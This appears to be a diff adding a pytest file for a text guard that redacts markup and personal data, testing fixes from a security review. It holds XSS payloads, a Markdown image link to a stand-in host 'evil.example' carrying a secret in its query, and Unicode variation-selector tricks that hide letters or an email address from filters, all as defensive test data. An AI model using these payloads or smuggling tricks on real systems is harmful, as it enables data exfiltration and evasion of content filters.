@@ -1,0 +1,126 @@
+"""Outside review 14 of the guard's non-classifier steps: each test failed on the code before the
+review and names what it proves."""
+
+from __future__ import annotations
+
+import html.parser
+import re
+
+import pytest
+from markdown_it import MarkdownIt
+
+from airlock.guard import Decision, Guard, GuardConfig
+from airlock.guard._filter import REMOVED
+
+ONLY_FILTER = GuardConfig(unicode=None, pii=None)
+EVIL = "https://evil.example/i.png?q=secret"
+
+#: each construct the filter removes by default (markup and images)
+REMOVABLE = (
+    "<script>x</script>",
+    "<iframe></iframe>",
+    "<img src=x onerror=alert(1)>",
+    '<a href="javascript:alert(1)">',
+    "![i](https://other.example/p.png)",
+)
+#: places where the marker that replaces it could complete markup with the pieces around it
+CONTEXTS = (
+    "!{x}(" + EVIL + ")",  # "!" + marker + "(url)": an inline image
+    "!{x}\n\n[removed]: " + EVIL,  # "!" + marker: a reference image through a definition
+    "<{x}img src=x onerror=alert(1)>",  # "<" + marker + "img": a tag with a handler
+)
+
+
+def _images(markdown: str) -> list[str]:
+    """The sources of the images a CommonMark renderer (markdown-it-py, HTML on) makes."""
+    found: list[str] = []
+    for token in MarkdownIt("commonmark").parse(markdown):
+        for child in token.children or ():
+            if child.type == "image":
+                found.append(str(child.attrs.get("src", "")))
+    return found
+
+
+class _Handlers(html.parser.HTMLParser):
+    def __init__(self) -> None:
+        super().__init__()
+        self.handlers: list[str] = []
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.handlers += [f"{tag}.{k}" for k, _ in attrs if k.startswith("on")]
+
+
+@pytest.mark.parametrize("context", CONTEXTS)
+@pytest.mark.parametrize("removable", REMOVABLE)
+def test_removed_marker_completes_no_markup(context: str, removable: str) -> None:
+    """The marker a redacted element becomes was ``[removed]``: with ``!`` before it and ``(url)``
+    after it the output was ``![removed](https://evil...)``, an image the renderer fetches (the
+    original held only a flagged bare link). Proven with a real CommonMark renderer and HTML
+    tokenizer on the output."""
+    text = context.format(x=removable)
+    result = Guard(ONLY_FILTER).check(text)
+    assert result.decision is Decision.REDACTED
+    assert result.text is not None and REMOVED in result.text
+    assert _images(result.text) == []
+    parser = _Handlers()
+    parser.feed(result.text)
+    parser.close()
+    assert parser.handlers == []
+
+
+def test_removed_marker_has_no_ascii_punctuation() -> None:
+    assert not re.search(r"[!-/:-@\[-`{-~]", REMOVED)
+
+
+#: characters NFKC turns into ASCII letters or digits
+FOLDING_TO_ASCII = (
+    "\uff41",  # FULLWIDTH LATIN SMALL LETTER A
+    "\uff3a",  # FULLWIDTH LATIN CAPITAL LETTER Z
+    "\U0001d41a",  # MATHEMATICAL BOLD SMALL A
+    "\u2170",  # SMALL ROMAN NUMERAL ONE -> "i"
+    "\u1d43",  # MODIFIER LETTER SMALL A
+    "\uff15",  # FULLWIDTH DIGIT FIVE
+)
+
+
+@pytest.mark.parametrize("char", FOLDING_TO_ASCII)
+@pytest.mark.parametrize("selector", ["\ufe00", "\ufe0d", "\ufe0e", "\ufe0f"])
+def test_selector_after_a_character_nfkc_makes_ascii_is_removed(char: str, selector: str) -> None:
+    """A selector after a fullwidth letter passed (a variant of a non-ASCII character); NFKC then
+    made the letter ASCII and the output held ``a\\ufe00``: one selector after each letter, a byte
+    smuggled a letter. Oracle from the output alone: no selector stands after an ASCII letter, and
+    FE0E/FE0F only after a digit (a keycap)."""
+    text = "x " + (char + selector) * 3 + " y"
+    result = Guard(GuardConfig(filter=None, pii=None)).check(text)
+    assert result.text is not None
+    for match in re.finditer("[\ufe00-\ufe0f]", result.text):
+        before = result.text[match.start() - 1]
+        assert not before.isascii() or (before.isdigit() and match.group() in "\ufe0e\ufe0f"), ascii(
+            result.text
+        )
+    assert any(f.rule == "unicode.variation-selector" for f in result.findings) or char == "\uff15"
+
+
+def test_selectors_do_not_hide_an_email_from_pii() -> None:
+    """Fullwidth letters each followed by a selector: the address came out of NFKC as
+    ``a\\ufe00l\\ufe01i...@example.com`` and the pii step did not see it."""
+    address = "\uff41\uff4c\uff49\uff43\uff45@\uff45\uff58\uff41\uff4d\uff50\uff4c\uff45.\uff43\uff4f\uff4d"
+    smuggled = "".join(c + chr(0xFE00 + i % 14) for i, c in enumerate(address))
+    result = Guard().check("write to " + smuggled + " today")
+    assert result.text == "write to <EMAIL_ADDRESS> today"
+    assert "pii.email_address" in [f.rule for f in result.findings]
+
+
+@pytest.mark.parametrize(
+    "kept",
+    [
+        "\u2764\ufe0f",  # emoji presentation
+        "\u2264\ufe00",  # standardized variant of a math symbol
+        "1\ufe0f\u20e3",  # keycap
+        "\u845b\U000e0100",  # ideographic variation sequence
+        "\u0644\u200d\u0627",  # ZWJ between Arabic letters
+    ],
+)
+def test_legitimate_sequences_still_kept(kept: str) -> None:
+    result = Guard(GuardConfig(filter=None, pii=None)).check("a " + kept + " b")
+    assert result.decision is Decision.ALLOWED, result.findings
